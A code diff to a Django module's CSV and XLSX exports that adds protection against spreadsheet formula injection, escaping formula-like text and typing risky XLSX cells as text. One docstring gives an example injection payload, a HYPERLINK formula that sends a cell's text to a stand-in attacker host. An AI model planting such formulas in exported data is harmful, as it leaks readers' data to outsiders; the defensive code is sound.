@@ -2,8 +2,9 @@
 
 A window declares its export once, as a list of `ExportColumn`s: the values each reads and how
 they become its cell. Rows are read as plain values from a server-side cursor, in chunks, and
-every cell goes through `_cells`. CSV streams as it is written; XLSX goes through openpyxl's
-write-only workbook and a temporary file. Times are read as text in the export's zone
+every cell goes through `_cells`, which also makes every text cell safe to open in a spreadsheet
+(`text_cell`). CSV streams as it is written; XLSX goes through openpyxl's write-only workbook and
+a temporary file, where text is typed as text. Times are read as text in the export's zone
 (`local_time`): loading aware datetimes in Python (Django ticket #36960) would cost most of an
 export's CPU (ADR 30).
 """
@@ -22,6 +23,9 @@ from django.db.models import CharField, DurationField, Expression, ExpressionWra
 from django.db.models.functions import Cast, Substr, Trunc
 from django.http import FileResponse, StreamingHttpResponse
 from django.utils import timezone, translation
+from openpyxl import Workbook
+from openpyxl.cell import WriteOnlyCell
+from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE
 
 from .tables import WINDOW_TIME
 
@@ -31,6 +35,9 @@ CHUNK = 2000
 #: How an export writes a time it is given as a datetime (`local_time` gives the same text): as
 #: the window shows it.
 TIME_FORMAT = WINDOW_TIME
+
+#: What a spreadsheet reads as the start of a formula (OWASP's list for CSV injection).
+FORMULA_STARTS = frozenset("=+-@\t\r")
 
 
 @dataclass(frozen=True)
@@ -102,11 +109,25 @@ class ExportColumn:
         return lambda row: to_cell(*values(row))
 
 
+def text_cell(text: str) -> str:
+    """Text as every export writes it: without the characters a spreadsheet file cannot hold, and
+    after a single quote when a spreadsheet would read it as a formula (an account renamed
+    `=HYPERLINK("http://evil.example/?"&A2)` would send a code's text away). Numbers are not text:
+    a negative number stays a number."""
+    if text.isprintable() and text[:1] not in FORMULA_STARTS:  # nearly every cell, at C speed
+        return text
+    text = ILLEGAL_CHARACTERS_RE.sub("", text)  # what openpyxl refuses to store
+    return "'" + text if text[:1] in FORMULA_STARTS else text
+
+
 def _cells(values: list, zone) -> list:
     """Every cell of every export, as it is written: nothing for a missing value, a time in the
-    export's zone, anything else as it is."""
+    export's zone, text made safe (`text_cell`), anything else as it is."""
     return [
-        "" if value is None else value.astimezone(zone).strftime(TIME_FORMAT) if isinstance(value, datetime) else value
+        "" if value is None
+        else text_cell(value) if isinstance(value, str)
+        else value.astimezone(zone).strftime(TIME_FORMAT) if isinstance(value, datetime)
+        else value
         for value in values
     ]
 
@@ -163,22 +184,25 @@ def csv_response(queryset, columns: list[ExportColumn], filename: str) -> Stream
     return response
 
 
-def _xlsx_cell(value):
-    """Numbers stay numbers (prices as decimals), everything else is text."""
-    if isinstance(value, bool):
-        return str(value)
-    if isinstance(value, int | float | Decimal):
+def _xlsx_cell(sheet, value):
+    """Numbers stay numbers (prices as decimals); everything else is text. openpyxl types a text
+    by its first letters: one it would take for a formula or an error value ("#N/A") goes in a
+    cell typed as text."""
+    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
         return value
-    return str(value)
+    text = str(value)
+    if text.startswith("=") or text in ERROR_CODES:
+        cell = WriteOnlyCell(sheet, text)
+        cell.data_type = "s"
+        return cell
+    return text
 
 
 def xlsx_response(queryset, columns: list[ExportColumn], filename: str) -> FileResponse:
-    from openpyxl import Workbook
-
     workbook = Workbook(write_only=True)
     sheet = workbook.create_sheet(title=filename[:31])
     for row in _rows(queryset, columns):
-        sheet.append([_xlsx_cell(v) for v in row])
+        sheet.append([_xlsx_cell(sheet, v) for v in row])
     spool = tempfile.TemporaryFile()
     workbook.save(spool)
     spool.seek(0)
